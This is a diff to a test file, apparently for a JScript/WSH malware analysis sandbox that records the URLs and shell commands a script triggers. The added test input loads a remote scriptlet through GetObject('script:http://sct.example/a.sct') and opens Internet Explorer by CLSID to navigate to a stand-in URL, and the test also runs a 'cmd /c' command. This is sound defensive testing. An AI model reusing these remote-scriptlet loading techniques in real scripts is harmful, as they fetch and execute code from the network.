@@ -155,8 +155,11 @@ test('ProgIDs ignore case; CLSID monikers and versioned names reach the same obj
     try { new ActiveXObject("WinHttp.WinHttpRequest.(5+1).1"); } catch (e) { failed = "yes"; }
     sh.Run("cmd /c echo " + failed);
   `;
-  const r = await run('progids.js', source);
-  assert.deepEqual(urlsOf(r).sort(), ['http://h0.example/p', 'http://h1.example/p', 'http://h2.example/p', 'http://h3.example/p']);
+  const r = await run('progids.js', source + `
+    new ActiveXObject("new:{0002DF01-0000-0000-C000-000000000046}").Navigate("http://ie.example/x");
+    GetObject("script:http://sct.example/a.sct");
+  `);
+  assert.deepEqual(urlsOf(r).sort(), ['http://h0.example/p', 'http://h1.example/p', 'http://h2.example/p', 'http://h3.example/p', 'http://ie.example/x', 'http://sct.example/a.sct']);
   assert.ok(r.findings.some((f) => f.id === 'jscript.exec.command' && f.evidence.includes('cmd /c echo yes')));
   const root = r.artifacts.find((a) => a.relation === 'root')!;
   assert.equal(root.facts?.unknownProgIds, 1);
